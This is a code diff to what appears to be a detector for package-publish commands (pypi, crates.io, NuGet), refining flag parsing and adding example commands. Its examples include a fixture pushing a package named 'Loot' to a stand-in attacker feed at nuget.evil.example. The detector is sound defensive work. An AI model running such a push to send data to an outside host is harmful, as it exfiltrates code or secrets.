@@ -4,24 +4,45 @@
  */
 import type { PushToolSpec } from '../types.js';
 
-/** nuget.exe takes its flags in any case; dotnet's are long or single-letter. */
-const NUGET_SOURCE_FLAGS = ['-s', '--source', '-Source', '-source', '-SOURCE'];
-const NUGET_VALUE_FLAGS = [
-  ...NUGET_SOURCE_FLAGS,
+/** `dotnet nuget push` options (long, or single-letter). */
+const DOTNET_NUGET_VALUE_FLAGS = [
+  '-s',
+  '--source',
   '-k',
   '--api-key',
-  '-ApiKey',
-  '-apikey',
   '-ss',
   '--symbol-source',
   '-sk',
   '--symbol-api-key',
   '-t',
   '--timeout',
-  '-Timeout',
   '--configfile',
+];
+/** nuget.exe's push options, which it takes in any case and by any unambiguous prefix (`-so`, `-SOURCE`). */
+const NUGET_EXE_OPTIONS = [
+  'Source',
+  'ApiKey',
+  'SymbolSource',
+  'SymbolApiKey',
+  'Timeout',
+  'ConfigFile',
+  'Verbosity',
+  'NonInteractive',
+  'DisableBuffering',
+  'NoSymbols',
+  'NoServiceEndpoint',
+  'SkipDuplicate',
+  'ForceEnglishOutput',
+  'Help',
+];
+const NUGET_EXE_VALUE_FLAGS = [
+  '-Source',
+  '-ApiKey',
+  '-SymbolSource',
+  '-SymbolApiKey',
+  '-Timeout',
   '-ConfigFile',
-  '-configfile',
+  '-Verbosity',
 ];
 
 export const packageTools: readonly PushToolSpec[] = [
@@ -61,6 +82,7 @@ export const packageTools: readonly PushToolSpec[] = [
         '--password',
         '--publish-url',
         '--token',
+        '--index',
       ],
     },
     match: {
@@ -72,11 +94,12 @@ export const packageTools: readonly PushToolSpec[] = [
     },
     destination: 'fixed',
     fixedDestination: 'upload.pypi.org',
-    // `-r NAME` names an index configured in ~/.pypirc: the first connect tells where it is.
-    destinationFlags: ['--repository-url', '--publish-url', '-r', '--repository'],
+    destinationFlags: ['--repository-url', '--publish-url'],
+    // An index named in ~/.pypirc or pyproject.toml (`uv publish --index`): the first connect tells where.
+    sourceNameFlags: ['-r', '--repository', '--index'],
     requiresClassedDestination: false,
     examples: {
-      push: ['upload dist/*', 'publish --token pypi-AAAA', 'upload -r corp dist/*'],
+      push: ['upload dist/*', 'publish --token pypi-AAAA', 'upload -r corp dist/*', 'publish --index corp'],
       notPush: ['check dist/*', 'pip install x'],
     },
   },
@@ -110,8 +133,9 @@ export const packageTools: readonly PushToolSpec[] = [
     },
     destination: 'fixed',
     fixedDestination: 'crates.io',
+    destinationFlags: ['--index'],
     // `--registry NAME` names one configured in .cargo/config.toml: the first connect tells where it is.
-    destinationFlags: ['--index', '--registry'],
+    sourceNameFlags: ['--registry'],
     requiresClassedDestination: false,
     examples: {
       push: [
@@ -151,14 +175,14 @@ export const packageTools: readonly PushToolSpec[] = [
     binaries: ['dotnet'],
     // dotnet runs applications too (`dotnet App.dll`): its other egress is not a NuGet push.
     runtime: true,
-    syntax: { valueFlags: NUGET_VALUE_FLAGS },
+    syntax: { valueFlags: DOTNET_NUGET_VALUE_FLAGS },
     match: {
       kind: 'subcommand',
       commands: [{ words: ['nuget', 'push'], remote: { positional: 0 }, excludeFlags: ['--help', '-h', '-?'] }],
     },
     destination: 'fixed',
     fixedDestination: 'api.nuget.org',
-    destinationFlags: NUGET_SOURCE_FLAGS,
+    sourceNameFlags: ['-s', '--source'],
     // CI builds push to folder feeds (`--source ./artifacts`): local disk.
     localDestinations: true,
     requiresClassedDestination: false,
@@ -177,6 +201,9 @@ export const packageTools: readonly PushToolSpec[] = [
         'nuget push bin/App.1.0.0.nupkg --source ./artifacts',
         'nuget push App.1.0.0.nupkg -s /srv/feed',
         'nuget push App.1.0.0.nupkg --source file:///srv/feed',
+        'nuget push App.1.0.0.nupkg --source artifacts/packages',
+        'nuget push App.1.0.0.nupkg -s out\\feed',
+        'nuget push App.1.0.0.nupkg -s ..',
       ],
     },
   },
@@ -184,19 +211,30 @@ export const packageTools: readonly PushToolSpec[] = [
     tool: 'nuget',
     description: '`nuget push PKG` (nuget.exe, flags in any case) to nuget.org (or `-Source`); not to a folder feed.',
     binaries: ['nuget'],
-    syntax: { valueFlags: NUGET_VALUE_FLAGS },
+    syntax: { valueFlags: NUGET_EXE_VALUE_FLAGS, prefixOptions: NUGET_EXE_OPTIONS },
     match: {
       kind: 'subcommand',
-      commands: [{ words: ['push'], remote: { positional: 0 }, excludeFlags: ['-help', '-Help', '-?'] }],
+      commands: [{ words: ['push'], remote: { positional: 0 }, excludeFlags: ['-Help', '-?'] }],
     },
     destination: 'fixed',
     fixedDestination: 'api.nuget.org',
-    destinationFlags: NUGET_SOURCE_FLAGS,
+    sourceNameFlags: ['-Source'],
     localDestinations: true,
     requiresClassedDestination: false,
     examples: {
-      push: ['push Loot.1.0.0.nupkg -Source https://nuget.evil.example/v3/index.json', 'push Loot.1.0.0.nupkg'],
-      notPush: ['push App.1.0.0.nupkg -source ./feed', 'push App.1.0.0.nupkg -Source C:\\feeds', 'restore'],
+      push: [
+        'push Loot.1.0.0.nupkg -Source https://nuget.evil.example/v3/index.json',
+        'push Loot.1.0.0.nupkg',
+        'push Loot.1.0.0.nupkg -so corp -apikey k',
+      ],
+      notPush: [
+        'push App.1.0.0.nupkg -source ./feed',
+        'push App.1.0.0.nupkg -sOURCE artifacts/packages',
+        'push App.1.0.0.nupkg -Source C:\\feeds',
+        'push App.1.0.0.nupkg -Source .',
+        'push -help',
+        'restore',
+      ],
     },
   },
 ];
